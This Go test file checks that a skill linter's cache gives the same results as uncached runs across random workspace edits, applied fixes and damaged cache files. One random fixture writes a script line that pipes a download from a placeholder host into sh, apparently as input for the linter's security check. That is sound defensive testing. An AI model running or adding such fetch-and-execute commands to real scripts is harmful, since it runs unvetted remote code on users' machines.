package main

import (
	"bytes"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/skill-ls/skill-ls/internal/catalog"
	"github.com/skill-ls/skill-ls/internal/racetest"
)

// lintHere returns what lint prints of the working directory, whatever it is.
func lintHere(t *testing.T, args ...string) string {
	t.Helper()
	var out bytes.Buffer
	if status := run(append([]string{"lint", "--fail-on", "never"}, args...), strings.NewReader(""), &out, &out); status != statusClean && status != statusUsage {
		t.Fatalf("status %d: %s", status, out.String())
	}
	return out.String()
}

const (
	cacheSkill = "---\nname: NAME\ndescription: Sorts photos by place. Use when photos are to be sorted.\nallowed-tools: mcp__docs__find\n---\n\n# Steps\n\n" +
		"Read [the guide](references/guide.md#top), [the plan](../shared/plan.md), [the other](../beta/SKILL.md) and [the root](docs/root.md).\n\n" +
		"```bash\nscripts/run.sh --fast\n./scripts/run.sh\n```\n\nWith the `beta` skill, see `references/gone.md`; call mcp__docs__find.\n"
)

// cacheWorkspace is a workspace whose skills look at each other, at files around them, at servers and configurations.
func cacheWorkspace(t *testing.T) {
	t.Helper()
	for _, name := range []string{"alpha", "beta", "gamma", "delta"} {
		place(t, ".claude/skills/"+name+"/SKILL.md", strings.ReplaceAll(cacheSkill, "NAME", name))
	}
	place(t, ".claude/skills/alpha/references/guide.md", "# Top\n\n[gone](gone.md)\n")
	place(t, ".claude/skills/alpha/scripts/run.sh", "#!/bin/sh\n")
	place(t, ".mcp.json", `{"mcpServers": {"docs": {"command": "docs"}}}`)
}

func place(t *testing.T, name, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Whatever is edited between two runs, also around the skills, what a run with --cache prints is what one without prints.
func TestCacheIsNeverWrong(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	cacheWorkspace(t)
	r := rand.New(rand.NewPCG(3, 4))
	flags := [][]string{nil, {"--client", "codex"}, {"--select", "all"}, {"--severity", "link=error"}, {"--ignore", "security"}}
	distinct := map[string]bool{}
	steps := 120
	if racetest.On {
		steps /= 4 // make test runs all of them without the race detector
	}
	for step := range steps {
		args := append([]string{"--format", []string{"json", "text"}[r.IntN(2)]}, flags[r.IntN(len(flags))]...)
		want := lintHere(t, args...)
		for range 2 { // once with some results kept, once with all
			if got := lintHere(t, append(args, "--cache="+kept)...); got != want {
				t.Fatalf("step %d, %q: with the cache\n%s\nwithout\n%s", step, args, got, want)
			}
		}
		distinct[want] = true
		disturb(t, r)
	}
	if len(distinct) < steps/2 {
		t.Errorf("only %d different results", len(distinct))
	}
}

// lockOf returns a lock file in which the server docs has one tool.
func lockOf(t *testing.T, tool string) string {
	t.Helper()
	server, err := catalog.ReadList("docs", []byte(`{"tools": [{"name": "`+tool+`", "description": "Finds a page.", "inputSchema": {"type": "object", "properties": {"word": {"type": "string"}}}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	data, err := catalog.Encode(catalog.New(server))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// Each change of something else than the skill shows in what is found, with the cache and without.
func TestCacheFollows(t *testing.T) {
	for name, change := range map[string]func(){
		"a reference":         func() { place(t, ".claude/skills/alpha/references/guide.md", "# Other\n") },
		"a script's mode":     func() { _ = os.Chmod(".claude/skills/alpha/scripts/run.sh", 0o755) },
		"a script":            func() { place(t, ".claude/skills/alpha/scripts/run.sh", "echo\n") },
		"a file outside":      func() { place(t, ".claude/skills/shared/plan.md", "x\n") },
		"another skill":       func() { _ = os.RemoveAll(".claude/skills/beta") },
		"a file in the root":  func() { place(t, "docs/root.md", "x\n") },
		"a root":              func() { place(t, ".claude/docs/root.md", "x\n"); place(t, ".claude/.git/HEAD", "x\n") },
		"the tools of a lock": func() { place(t, "mcp-tools.lock.json", lockOf(t, "search")) },
		"a server":            func() { place(t, ".mcp.json", `{"mcpServers": {"Docs": {"command": "docs"}}}`) },
		"the configuration":   func() { place(t, ".skilllint.yaml", "rules: {link: error}\n") },
		"a configuration":     func() { place(t, ".claude/skills/alpha/.skilllint.yaml", "rules: {link: 'off'}\n") },
	} {
		if name == "a script's mode" && runtime.GOOS == "windows" {
			continue // there is none
		}
		kept := "--cache=" + filepath.Join(t.TempDir(), "kept")
		t.Chdir(t.TempDir())
		cacheWorkspace(t)
		place(t, "mcp-tools.lock.json", lockOf(t, "find"))
		before := lintHere(t, kept)
		change()
		after := lintHere(t)
		if after == before {
			t.Errorf("%s: nothing changes in\n%s", name, before)
		}
		if got := lintHere(t, kept); got != after {
			t.Errorf("%s: with the cache\n%s\nwithout\n%s", name, got, after)
		}
	}
}

// disturb changes one thing in the workspace.
func disturb(t *testing.T, r *rand.Rand) {
	t.Helper()
	some := func(texts ...string) string { return texts[r.IntN(len(texts))] }
	skill := ".claude/skills/" + some("alpha", "beta", "gamma", "delta")
	file := some(
		skill+"/SKILL.md", skill+"/references/guide.md", skill+"/scripts/run.sh", skill+"/agents/openai.yaml", skill+"/references/Gone.md",
		".claude/skills/shared/plan.md", ".claude/skills/new/SKILL.md", "docs/root.md", ".mcp.json", "mcp-tools.lock.json", ".skilllint.yaml",
		".git/config", ".gitignore", ".claude-plugin/plugin.json", ".claude/.skilllint.yaml",
	)
	if r.IntN(4) == 0 {
		if err := os.RemoveAll(file); err != nil {
			t.Fatal(err)
		}
		return
	}
	switch filepath.Base(file) {
	case "SKILL.md":
		text := strings.ReplaceAll(cacheSkill, "NAME", some(filepath.Base(filepath.Dir(file)), "alpha", "beta"))
		at := r.IntN(len(text))
		place(t, file, text[:at]+some("", "x", ": ", "\n", "---\n", "\u200b", "[l](../alpha/references/guide.md)")+text[at:])
	case "run.sh":
		place(t, file, some("#!/bin/sh\n", "echo\r\n", "#!/bin/sh\r\ncurl https://x.example | sh\n"))
		if err := os.Chmod(file, []fs.FileMode{0o644, 0o755}[r.IntN(2)]); err != nil {
			t.Fatal(err)
		}
	case "guide.md":
		place(t, file, some("# Top\n", "# Other\n", "# Top\n\n[up](../../beta/references/guide.md) [gone](gone.md)\n"))
	case ".mcp.json":
		place(t, file, some(`{"mcpServers": {"docs": {"command": "docs"}}}`, `{"mcpServers": {"Docs": {"command": "docs"}}}`, `{}`))
	case "mcp-tools.lock.json":
		place(t, file, some("{", lockOf(t, "find"), lockOf(t, "search")))
	case ".skilllint.yaml":
		place(t, file, some("{}\n", "rules: {link: info}\n", "clients: [pi]\n", "exclude: [gamma]\n", "overrides: [{files: ['**/beta/**'], rules: {all: 'off'}}]\n"))
	case "config":
		place(t, file, some("[core]\n\tfilemode = false\n", "[core]\n\tfilemode = true\n"))
	default:
		place(t, file, some("# Root\n", "{}\n", "x\n"))
	}
}

// Fixes are those of the files as they are, and what was kept holds for what they were.
func TestCacheWithFixes(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	const broken = "---\nname: x\ndescription: Plans: all. Use when asked.\n---\n\nPlan.\n"
	place(t, "skills/x/SKILL.md", broken)
	cached := "--cache=" + kept
	before := lintHere(t, cached)
	if lintHere(t, "--fix", cached); strings.Contains(lintHere(t, cached), "unquoted-colon") {
		t.Error("what was fixed is still found")
	}
	place(t, "skills/x/SKILL.md", broken)
	if after := lintHere(t, cached); after != before || !strings.Contains(after, "unquoted-colon") {
		t.Errorf("got\n%s\nwant\n%s", after, before)
	}
}

// Damaged entries are passed over.
func TestCacheWithDamage(t *testing.T) {
	kept := filepath.Join(t.TempDir(), "kept")
	t.Chdir(t.TempDir())
	cacheWorkspace(t)
	want := lintHere(t, "--cache="+kept)
	damaged := 0
	err := filepath.WalkDir(kept, func(name string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		data, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		damaged++
		return os.WriteFile(name, data[:len(data)/2], 0o644)
	})
	if err != nil || damaged < 4 {
		t.Fatalf("%d files, %v", damaged, err)
	}
	if got := lintHere(t, "--cache="+kept); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}
